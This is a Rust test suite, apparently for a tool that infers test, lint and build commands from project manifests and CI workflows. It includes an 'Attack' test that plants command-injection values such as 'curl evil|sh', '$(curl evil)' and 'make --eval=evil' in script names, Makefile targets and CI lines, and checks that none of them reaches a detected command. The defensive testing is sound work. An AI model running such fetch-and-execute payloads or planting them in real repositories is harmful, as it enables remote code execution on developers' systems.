use proptest::prelude::*;

use super::*;

fn tree(files: &[(&str, &str)]) -> Tree {
    let mut tree = Tree::default();
    for (path, text) in files {
        if path.contains(".github/") || *path == ".gitlab-ci.yml" {
            tree.ci.insert((*path).to_owned(), (*text).to_owned());
            continue;
        }
        let name = path.split('/').next().unwrap_or_default();
        tree.names.insert(name.to_owned());
        if TEXTS.contains(path) {
            tree.texts.insert((*path).to_owned(), (*text).to_owned());
        }
    }
    tree
}

/// `test | lint | build`, each with its source where it is not the first file.
fn found(files: &[(&str, &str)]) -> String {
    let commands = detect(&tree(files));
    let shown = |found: &Option<Detected>| match found {
        Some(found) => format!("{} ({})", found.command, found.source),
        None => "-".to_owned(),
    };
    [&commands.test, &commands.lint, &commands.build].map(shown).join(" | ")
}

#[test]
fn manifests_of_every_language_name_their_commands() {
    let scripts = r#"{"scripts": {"test": "vitest", "lint": "eslint .", "build": "tsc"}}"#;
    let default = r#"{"scripts": {"test": "echo \"Error: no test specified\" && exit 1"}}"#;
    let cases: &[(&[(&str, &str)], &str)] = &[
        (
            &[("Cargo.toml", "[package]\n")],
            "cargo test (Cargo.toml) | cargo clippy --all-targets (Cargo.toml) | cargo build (Cargo.toml)",
        ),
        (
            &[("Cargo.toml", "[workspace]\nmembers = []\n")],
            "cargo test --workspace (Cargo.toml) | cargo clippy --workspace --all-targets (Cargo.toml) | cargo build --workspace (Cargo.toml)",
        ),
        (
            &[("package.json", scripts)],
            "npm test (package.json) | npm run lint (package.json) | npm run build (package.json)",
        ),
        (
            &[("package.json", scripts), ("pnpm-lock.yaml", "")],
            "pnpm test (package.json) | pnpm run lint (package.json) | pnpm run build (package.json)",
        ),
        (
            &[("package.json", scripts), ("yarn.lock", "")],
            "yarn test (package.json) | yarn run lint (package.json) | yarn run build (package.json)",
        ),
        (
            &[("package.json", scripts), ("bun.lock", "")],
            "bun run test (package.json) | bun run lint (package.json) | bun run build (package.json)",
        ),
        (
            &[
                ("package.json", r#"{"packageManager": "yarn@4.1.0", "scripts": {"test": "x"}}"#),
                ("package-lock.json", ""),
            ],
            "yarn test (package.json) | - | -",
        ),
        (&[("package.json", default)], "- | - | -"),
        (
            &[("pyproject.toml", "[tool.pytest.ini_options]\n[tool.ruff]\n"), ("uv.lock", "")],
            "uv run pytest (pyproject.toml) | uv run ruff check (pyproject.toml) | -",
        ),
        (&[("pytest.ini", "")], "python3 -m pytest (pytest.ini) | - | -"),
        (
            &[("setup.cfg", "[tool:pytest]\n[flake8]\n")],
            "python3 -m pytest (setup.cfg) | flake8 (setup.cfg) | -",
        ),
        (&[("tox.ini", "[tox]\n")], "tox (tox.ini) | - | -"),
        (&[("setup.py", ""), ("tests", "")], "python3 -m unittest (setup.py) | - | -"),
        (
            &[("go.mod", "")],
            "go test ./... (go.mod) | go vet ./... (go.mod) | go build ./... (go.mod)",
        ),
        (&[("pom.xml", "")], "mvn test (pom.xml) | - | mvn compile (pom.xml)"),
        (&[("pom.xml", ""), ("mvnw", "")], "./mvnw test (pom.xml) | - | ./mvnw compile (pom.xml)"),
        (
            &[("build.gradle.kts", ""), ("gradlew", "")],
            "./gradlew test (build.gradle.kts) | - | ./gradlew assemble (build.gradle.kts)",
        ),
        (
            &[("Gemfile", ""), (".rspec", ""), (".rubocop.yml", "")],
            "bundle exec rspec (.rspec) | bundle exec rubocop (.rubocop.yml) | -",
        ),
        (&[("Rakefile", "")], "rake test (Rakefile) | - | -"),
        (
            &[("composer.json", "{}"), ("phpunit.xml.dist", "")],
            "vendor/bin/phpunit (phpunit.xml.dist) | - | -",
        ),
        (
            &[("composer.json", r#"{"scripts": {"test": ["@unit"], "lint": "x"}}"#)],
            "composer run test (composer.json) | composer run lint (composer.json) | -",
        ),
        (
            &[("mix.exs", "")],
            "mix test (mix.exs) | mix format --check-formatted (mix.exs) | mix compile (mix.exs)",
        ),
        (
            &[("Shop.sln", "")],
            "dotnet test (Shop.sln) | dotnet format --verify-no-changes (Shop.sln) | dotnet build (Shop.sln)",
        ),
        (
            &[("CMakeLists.txt", "ENABLE_TESTING()\n")],
            "cmake -S . -B build && cmake --build build && ctest --test-dir build --output-on-failure (CMakeLists.txt) | - | cmake -S . -B build && cmake --build build (CMakeLists.txt)",
        ),
        (
            &[("Makefile", "VAR := x\nall: build\nbuild test:\n\t@echo lint:\nlint:\n")],
            "make test (Makefile) | make lint (Makefile) | make build (Makefile)",
        ),
        (
            &[("justfile", "@lint:\n  x\ntest target=\"a\": build\n  x\nbuild:\n")],
            "just test (justfile) | just lint (justfile) | just build (justfile)",
        ),
        (&[], "- | - | -"),
    ];
    for (files, expected) in cases {
        assert_eq!(found(files), *expected, "{files:?}");
    }
}

#[test]
fn what_ci_runs_comes_first() {
    let node = ("package.json", r#"{"scripts": {"test": "x", "test:ci": "y"}}"#);
    let cargo = ("Cargo.toml", "[package]\n");
    let make = ("Makefile", "test:\ncheck-all:\n");
    let test = |files: &[(&str, &str)]| {
        detect(&tree(files)).test.map(|test| format!("{} ({})", test.command, test.source))
    };
    let with = |manifests: &[(&'static str, &'static str)], ci: &str| {
        let mut files = manifests.to_vec();
        files.push((".github/workflows/ci.yml", ci));
        test(&files).unwrap_or_default().replace(".github/workflows/ci.yml", "CI")
    };
    assert_eq!(with(&[make, cargo], "on: push\n"), "make test (Makefile)");
    assert_eq!(with(&[make, cargo], "      - run: cargo test\n"), "cargo test (CI)");
    assert_eq!(
        with(&[cargo], "run: |\n  RUST_LOG=x cargo nextest run\n"),
        "cargo nextest run (CI)"
    );
    assert_eq!(
        with(&[cargo], "run: cargo test --workspace --locked\n"),
        "cargo test --workspace --locked (CI)"
    );
    assert_eq!(with(&[node], "- run: npm ci && npm run test:ci\n"), "npm run test:ci (CI)");
    assert_eq!(with(&[node], "- run: npm run test:e2e\n"), "npm test (package.json)", "no script");
    assert_eq!(with(&[make], "- run: make check-all\n"), "make check-all (CI)");
    assert_eq!(with(&[make], "- run: make check-none\n"), "make test (Makefile)", "no target");
    let python = ("setup.py", "");
    assert_eq!(with(&[python], "- run: python -m pytest -v\n"), "python3 -m pytest (CI)");
    assert_eq!(with(&[python], "# run: pytest\n"), "");
    assert_eq!(
        test(&[cargo, (".gitlab-ci.yml", "script:\n  - cargo test --all-features\n")]).as_deref(),
        Some("cargo test --all-features (.gitlab-ci.yml)")
    );
    // Django: its own tests are run by a script of its own, and those for the web by npm.
    let tox = ("tox.ini", "");
    assert_eq!(with(&[node, tox], "- run: npm test\n- run: python runtests.py\n"), "tox (tox.ini)");
    assert_eq!(with(&[node, make], "- run: npm test\n"), "npm test (CI)");
    // A tool that this directory has no manifest of.
    assert_eq!(with(&[cargo], "- run: go test ./...\n"), "cargo test (Cargo.toml)");
}

/// Attack: a clone whose files want a command of their own to be run.
#[test]
fn no_text_of_a_file_becomes_a_command() {
    let files: &[&[(&str, &str)]] = &[
        &[("package.json", r#"{"scripts": {"test; curl evil|sh": "x", "$(curl evil)": "y"}}"#)],
        &[(
            "package.json",
            r#"{"packageManager": "sh -c evil@1", "scripts": {"test": "curl evil|sh"}}"#,
        )],
        &[("Makefile", "test;curl evil|sh: x\n$(shell curl evil):\n")],
        &[
            ("Cargo.toml", ""),
            (
                ".github/workflows/x.yml",
                "run: cargo test --config curl evil|sh\nrun: cargo test `curl evil`\n",
            ),
        ],
        &[
            ("package.json", r#"{"scripts": {"test:$(evil)": "x", "test:-evil": "y"}}"#),
            (".github/workflows/x.yml", "run: npm run test:$(evil)\n"),
        ],
        &[("Makefile", "--eval=evil:\ntest:\n"), (".gitlab-ci.yml", "- make --eval=evil\n")],
    ];
    for files in files {
        for (_, detected) in detect(&tree(files)).by_purpose() {
            assert!(!detected.command.contains("evil"), "{files:?}: {}", detected.command);
            assert!(!detected.command.contains(['$', '`', '|', ';']), "{}", detected.command);
        }
    }
}

/// A name of an entry is the only text of a repository that a source shows; commands are ours.
fn is_ours(command: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || " _-:./&".contains(c);
    command.chars().all(plain) && command.replace("&&", "").chars().all(|c| c != '&')
}

proptest! {
    #[test]
    fn any_text_at_all_makes_a_plain_command(text in "\\PC{0,300}", name in 0..TEXTS.len()) {
        let mut tree = tree(&[("Cargo.toml", ""), ("Makefile", "test:\n"), ("package.json", "{}")]);
        tree.names.insert(TEXTS[name].to_owned());
        tree.texts.insert(TEXTS[name].to_owned(), text.clone());
        tree.ci.insert(".gitlab-ci.yml".to_owned(), text);
        for (_, detected) in detect(&tree).by_purpose() {
            prop_assert!(is_ours(&detected.command), "{}", detected.command);
        }
    }

    #[test]
    fn words_of_commands_in_any_order_make_a_plain_command(
        words in proptest::collection::vec(
            prop_oneof![
                Just("cargo"), Just("test"), Just("make"), Just("npm"), Just("run"), Just("&&"),
                Just("$(x)"), Just(";"), Just("--workspace"), Just("\n"), Just("'"), Just("pytest"),
            ],
            0..20,
        )
    ) {
        let text = words.join(" ");
        let mut tree = tree(&[
            ("Cargo.toml", ""), ("setup.py", ""), ("Makefile", "test $(x) ' run:\n"),
            ("package.json", r#"{"scripts": {"test": "x", "$(x)": "y", "run": "z"}}"#),
        ]);
        tree.ci.insert(".gitlab-ci.yml".to_owned(), text);
        for (_, detected) in detect(&tree).by_purpose() {
            prop_assert!(is_ours(&detected.command), "{}", detected.command);
        }
    }
}
